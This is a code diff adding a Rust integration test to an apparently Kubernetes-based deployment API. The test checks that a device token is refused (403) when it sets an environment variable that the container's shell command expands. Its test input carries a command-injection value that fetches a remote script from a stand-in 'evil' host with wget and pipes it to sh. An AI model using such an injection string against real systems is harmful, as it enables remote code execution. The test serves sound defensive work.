@@ -399,3 +399,41 @@ async fn a_variant_on_someone_elses_deployment_name_is_409() {
     assert_eq!(after.metadata.generation, nobodys.metadata.generation);
     assert_eq!(controller_of(&after), None);
 }
+
+/// R41 (issue 35, item 1): a base that passes `$(TITLE)` to its command line, as Kubernetes
+/// documents it: a device's TITLE would run as part of the command, so the token may not set
+/// it (403 naming the variable and the container) until the owner lists it; the admin may.
+#[tokio::test]
+#[ignore = "needs a cluster: scripts/test runs them"]
+async fn a_name_on_the_base_command_line_is_not_a_devices_to_set() {
+    let f = Fixture::with_api("api-device-cmdline").await;
+    let mut b = base("web");
+    b["spec"]["template"]["spec"]["containers"][0]["command"] =
+        json!(["sh", "-c", "exec snap --title $(TITLE)"]);
+    let create = json!({"name": "web", "deployment": b, "variants": []});
+    let created = f
+        .call("POST", "/mutations", Some(ADMIN), Some(&create))
+        .await;
+    assert_eq!(created.status, 201, "{created:?}");
+    let token = f.token("web").await;
+    let evil = json!({"label": "evil", "instances": 0,
+                      "env": {"TITLE": "x; wget -qO- http://evil/p | sh"}});
+    let refused = f.add_variant("web", &token, &evil).await;
+    assert_eq!(refused.status, 403, "{refused:?}");
+    let error = refused.json()["error"].as_str().unwrap().to_owned();
+    assert!(
+        error.contains("$(TITLE)") && error.contains("\"app\""),
+        "{error}"
+    );
+    assert_eq!(f.spec_labels("web").await, Vec::<String>::new());
+    // Other names are still the token's to set; the admin may set TITLE.
+    let fine = json!({"label": "fine", "instances": 0, "env": {"SCREEN": "portrait"}});
+    assert_eq!(f.add_variant("web", &token, &fine).await.status, 201);
+    let admin = json!({"label": "admin", "instances": 0, "env": {"TITLE": "lobby"}});
+    assert_eq!(f.add_variant("web", ADMIN, &admin).await.status, 201);
+    // Listed by the owner: allowed, and what listing it means is the owner's call.
+    set_device_access(&f, "web", json!({"env": ["TITLE", "SCREEN"]})).await;
+    let listed = json!({"label": "listed", "instances": 0, "env": {"TITLE": "hall"}});
+    let added = f.add_variant("web", &token, &listed).await;
+    assert_eq!(added.status, 201, "{added:?}");
+}
